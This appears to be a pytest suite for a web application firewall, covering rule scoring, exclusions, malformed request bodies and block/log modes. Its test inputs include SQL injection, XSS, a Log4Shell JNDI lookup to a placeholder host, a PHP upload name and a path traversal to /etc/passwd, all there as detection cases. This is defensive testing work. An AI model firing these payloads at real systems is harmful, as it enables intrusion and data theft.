"""Scoring, threshold, exclusions, malformed bodies, the filter in its modes, and parse_waf."""
from __future__ import annotations

import json
from types import SimpleNamespace

import pytest
from multidict import CIMultiDict

from edge.filters.waf import WafFilter
from edge.policy.sections.waf import Exclusion, WafSettings, parse_waf
from edge.schema.check import Check
from edge.waf import default_rules_dir, load_ruleset
from edge.waf.engine import Waf


@pytest.fixture(scope="module")
def waf() -> Waf:
    return Waf(load_ruleset(default_rules_dir()))


def custom(tmp_path, rules) -> Waf:
    (tmp_path / "r.json").write_text(json.dumps({"rules": rules}))
    return Waf(load_ruleset(tmp_path))


def rule(rid, value, score, targets=("args",), **extra):
    return {"id": rid, "targets": list(targets), "operator": "contains", "value": value, "score": score,
            "tags": ["protocol"], **extra}


H = CIMultiDict({"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/123.0"})


def test_scores_add_up_and_each_rule_counts_once(tmp_path):
    w = custom(tmp_path, [rule("a", "aaa", 2), rule("b", "bbb", 3)])
    assert w.inspect_request("GET", "/", "x=aaa", H, WafSettings()).score == 2
    r = w.inspect_request("GET", "/", "x=aaa&y=aaa&z=bbb", H, WafSettings())
    assert (r.score, r.rules, r.tags) == (5, ("a", "b"), ("protocol",))
    assert w.inspect_request("GET", "/", "x=ccc", H, WafSettings()) is None


def test_exclusion_with_a_path_prefix_applies_only_there(waf):
    s = WafSettings(exclusions=(Exclusion("xss-script-tag", "/cms/"), Exclusion("xss-libinjection", "/cms/")))
    q = "body=%3Cscript%3Ex%3C%2Fscript%3E"
    assert waf.inspect_request("GET", "/cms/save", q, H, s) is None
    assert waf.inspect_request("GET", "/shop", q, H, s).score >= 5
    everywhere = WafSettings(exclusions=(Exclusion("scanner-user-agent"),))
    assert waf.inspect_request("GET", "/", "", CIMultiDict({"User-Agent": "sqlmap/1.7"}), everywhere) is None


def test_paranoia_level_gates_rules(tmp_path):
    w = custom(tmp_path, [rule("p2", "zzz", 5, paranoia=2)])
    assert w.inspect_request("GET", "/", "q=zzz", H, WafSettings()) is None
    assert w.inspect_request("GET", "/", "q=zzz", H, WafSettings(paranoia=2)).rules == ("p2",)


def test_query_names_cookies_and_headers_are_targets(waf):
    assert waf.inspect_request("GET", "/", "class.module.classLoader.x=1", H, WafSettings()).rules == ("java-classloader",)
    r = waf.inspect_request("GET", "/", "", CIMultiDict({"Cookie": "a=1; sid=1' OR '1'='1"}), WafSettings())
    assert "sqli-libinjection" in r.rules
    r = waf.inspect_request("GET", "/", "", CIMultiDict({"X-Api-Version": "${jndi:ldap://x.example/a}"}), WafSettings())
    assert r.rules == ("java-log4shell",)
    # Accept-Language is no SQL target: quotes there are not an injection
    assert waf.inspect_request("GET", "/", "", CIMultiDict({"Accept-Language": "de';q=0.9"}), WafSettings()) is None


def test_static_hit_matches_nothing(waf):
    headers = CIMultiDict({"User-Agent": H["User-Agent"], "Accept": "*/*", "Accept-Language": "de-DE,de;q=0.9",
                           "Accept-Encoding": "gzip, br", "Cookie": "sid=a3f5c8e9b2d14f6a", "Referer": "https://shop.example/"})
    assert waf.inspect_request("GET", "/static/app.3f2a.js", "", headers, WafSettings()) is None


def test_body_adds_to_the_request_score(tmp_path):
    w = custom(tmp_path, [rule("q", "qqq", 2), rule("b", "bbb", 3, targets=("args",))])
    prior = w.inspect_request("GET", "/", "x=qqq", H, WafSettings())
    r = w.inspect_body(b"y=bbb", "application/x-www-form-urlencoded", "/", WafSettings(), prior)
    assert (r.score, r.rules) == (5, ("q", "b"))
    assert w.inspect_body(b"y=bbb", "text/plain", "/", WafSettings(inspect_body=False), prior) is prior


def test_body_is_read_only_up_to_max_body(tmp_path):
    w = custom(tmp_path, [rule("b", "bad", 5, targets=("body",))])
    body = b"x" * 100 + b"bad"
    assert w.inspect_body(body, "text/plain", "/", WafSettings(max_body=100), None) is None
    assert w.inspect_body(body, "text/plain", "/", WafSettings(max_body=200), None).rules == ("b",)


ATTACK = "' UNION SELECT password FROM users--"
MALFORMED = [
    ("broken JSON", b'{"q": "' + ATTACK.encode() + b'"', "application/json"),
    ("JSON nested deeper than the bound", (b'{"a":' * 40) + json.dumps(ATTACK).encode() + (b"}" * 40), "application/json"),
    ("invalid UTF-8 in JSON", b'{"q": "\xff\xfe' + ATTACK.encode() + b'"}', "application/json; charset=utf-8"),
    ("unknown charset", ("q=" + ATTACK).encode(), "application/x-www-form-urlencoded; charset=x-klingon"),
    ("latin-1 declared", ("q=" + ATTACK + " é").encode("latin-1"), "application/x-www-form-urlencoded; charset=iso-8859-1"),
    ("multipart without boundary", b"--x\r\n\r\n" + ATTACK.encode(), "multipart/form-data"),
    ("multipart never closed", b'--b\r\nContent-Disposition: form-data; name="q"\r\n\r\n' + ATTACK.encode(), "multipart/form-data; boundary=b"),
    ("multipart part without headers", b"--b\r\n" + ATTACK.encode() + b"\r\n--b--", "multipart/form-data; boundary=b"),
    ("no content type", ATTACK.encode(), None),
    ("garbage content type", ATTACK.encode(), ';;;=="'),
]


@pytest.mark.parametrize(("name", "body", "ctype"), MALFORMED, ids=[m[0] for m in MALFORMED])
def test_malformed_bodies_are_inspected_not_skipped(waf, name, body, ctype):
    r = waf.inspect_body(body, ctype, "/api", WafSettings(), None)
    assert r is not None and "sqli-union-select" in r.rules, r


def test_multipart_fields_and_file_names(waf):
    body = (b'--XyZ\r\nContent-Disposition: form-data; name="title"\r\n\r\nhello\r\n'
            b'--XyZ\r\nContent-Disposition: form-data; name="file"; filename="shell.php"\r\n'
            b"Content-Type: image/png\r\n\r\n\x89PNG\r\n--XyZ--\r\n")
    r = waf.inspect_body(body, 'multipart/form-data; boundary="XyZ"', "/upload", WafSettings(), None)
    assert r.rules == ("php-upload-name",)
    ok = body.replace(b"shell.php", b"cat.png")
    assert waf.inspect_body(ok, "multipart/form-data; boundary=XyZ", "/upload", WafSettings(), None) is None


def test_json_keys_and_values_are_arguments(waf):
    r = waf.inspect_body(b'{"class.module.classLoader.x": 1}', "application/json", "/", WafSettings(), None)
    assert r.rules == ("java-classloader",)
    r = waf.inspect_body(b'{"a": [{"b": "<script>alert(1)</script>"}]}', "application/vnd.api+json", "/", WafSettings(), None)
    assert "xss-script-tag" in r.rules


# --- the filter -----------------------------------------------------------------


def req(target="/", method="GET", headers=None, body_type=None):
    h = CIMultiDict(headers or {})
    if body_type:
        h["Content-Type"] = body_type
    return SimpleNamespace(method=method, raw_path=target, headers=h)


def env(mode="block", allowlisted=False, path="/", **kw):
    ctx = SimpleNamespace(allowlisted=allowlisted, path=path, peer="192.0.2.7", waf=None, blocked=None)
    policy = SimpleNamespace(tenant="t", filters=SimpleNamespace(waf=WafSettings(mode=mode, **kw)))
    return ctx, policy


ATTACK_URL = "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"


def test_filter_blocks_in_block_mode(waf):
    ctx, policy = env("block")
    verdict = WafFilter(waf).check(req(ATTACK_URL), ctx, policy)
    assert (verdict.status, verdict.reason, verdict.detail) == (403, "forbidden by the web application firewall", "filter.waf")
    assert ctx.blocked.startswith("waf:") and "xss-script-tag" in ctx.blocked and ctx.waf.score >= 5
    assert verdict.rules == ctx.waf.rules  # what the security events count


def test_filter_log_mode_passes_but_records(waf, caplog):
    ctx, policy = env("log")
    with caplog.at_level("INFO", logger="edge.filters"):
        assert WafFilter(waf).check(req(ATTACK_URL), ctx, policy) is None
    assert ctx.blocked.startswith("waf:")
    assert "would refuse" in caplog.text and "192.0.2.0/24" in caplog.text and "192.0.2.7" not in caplog.text


@pytest.mark.parametrize(("mode", "allowlisted"), [("off", False), ("block", True)])
def test_filter_off_or_allowlisted_does_nothing(waf, mode, allowlisted):
    ctx, policy = env(mode, allowlisted)
    assert WafFilter(waf).check(req(ATTACK_URL), ctx, policy) is None
    assert ctx.blocked is None and ctx.waf is None


def test_filter_below_threshold_passes(waf):
    ctx, policy = env("block", threshold=50)
    assert WafFilter(waf).check(req(ATTACK_URL), ctx, policy) is None


async def test_filter_check_body_blocks_on_the_body(waf):
    f = WafFilter(waf)
    ctx, policy = env("block", path="/api")
    request = req("/api", "POST", body_type="application/json")
    assert f.check(request, ctx, policy) is None
    verdict = await f.check_body(request, ctx, policy, b'{"q": "${jndi:ldap://x.example/a}"}', ctx.waf)
    assert verdict.status == 403 and ctx.blocked == "waf:java-log4shell"
    ctx2, _ = env("block", path="/api")
    assert await f.check_body(request, ctx2, policy, b'{"q": "red shoes"}', None) is None


async def test_cms_markup_in_a_body_passes_but_script_does_not(waf):
    f = WafFilter(waf)
    ctx, policy = env("block", path="/cms/save")
    request = req("/cms/save", "POST", body_type="application/json")
    page = {"body": '<p style="color:red"><strong>Hi</strong> <a href="https://x.example/">x</a> <img src="/a.png" alt="a"></p>'}
    assert await f.check_body(request, ctx, policy, json.dumps(page).encode(), None) is None
    for bad in ('<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<a href="javascript:alert(1)">x</a>'):
        assert (await f.check_body(request, ctx, policy, json.dumps({"body": bad}).encode(), None)).status == 403


# --- parse_waf ------------------------------------------------------------------


def parse(o, ids=frozenset({"r1"})):
    c = Check("t.json")
    settings = parse_waf(c, o, "filters.waf", ids)
    return settings, [str(e) for e in c.errors]


def test_parse_waf_defaults_and_values():
    s, errors = parse({})
    assert errors == [] and s == WafSettings()
    s, errors = parse({"mode": "log", "threshold": 10, "paranoia": 2, "inspect_body": False, "max_body": 1024,
                       "exclusions": [{"rule": "r1"}, {"rule": "r1", "path_prefix": "/cms/"}]})
    assert errors == [] and s.mode == "log" and s.threshold == 10 and s.paranoia == 2 and not s.inspect_body
    assert s.exclusions == (Exclusion("r1"), Exclusion("r1", "/cms/"))


def test_parse_waf_errors():
    _, errors = parse({"mode": "deny", "threshold": 0, "exclusions": [{"rule": "nope"}, {"rule": "r1", "path": "/"},
                                                                      {"rule": "r1", "path_prefix": "cms"}, 5]})
    assert errors == [
        't.json: filters.waf.mode: expected "block", "log" or "off", found "deny"',
        "t.json: filters.waf.threshold: expected an integer 1..10000, found 0",
        't.json: filters.waf.exclusions[0].rule: expected the id of a rule in the WAF rule set, found "nope"',
        "t.json: filters.waf.exclusions[1].path: expected one of the keys rule, path_prefix, found an unknown key",
        't.json: filters.waf.exclusions[2].path_prefix: expected a path starting with "/" (printable ASCII; percent-encode the rest), found "cms"',
        "t.json: filters.waf.exclusions[3]: expected an object, found 5",
    ]


def test_remembered_values_never_hide_an_attack_from_another_tenant(waf):
    """What one tenant's exclusions or paranoia let pass is not remembered
    as clean for the next tenant (the memo holds what every rule finds)."""
    f = WafFilter(waf)
    ua = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/131.0"}
    ids = sorted({r.id for r in waf.ruleset.rules if "xss" in r.tags})
    for _ in range(2):  # the second time from the memos
        ctx, lenient = env("block", exclusions=tuple(Exclusion(i, None) for i in ids))
        assert f.check(req(ATTACK_URL, headers=ua), ctx, lenient) is None
        ctx, strict = env("block")
        assert f.check(req(ATTACK_URL, headers=ua), ctx, strict).status == 403
    # A clean query, remembered, stays clean, and an attack at a new path is still seen.
    for _ in range(2):
        ctx, strict = env("block")
        assert f.check(req("/search?q=red+shoes&page=2", headers=ua), ctx, strict) is None
    ctx, strict = env("block")
    assert f.check(req("/search/../../etc/passwd?q=red+shoes&page=2", headers=ua), ctx, strict).status == 403
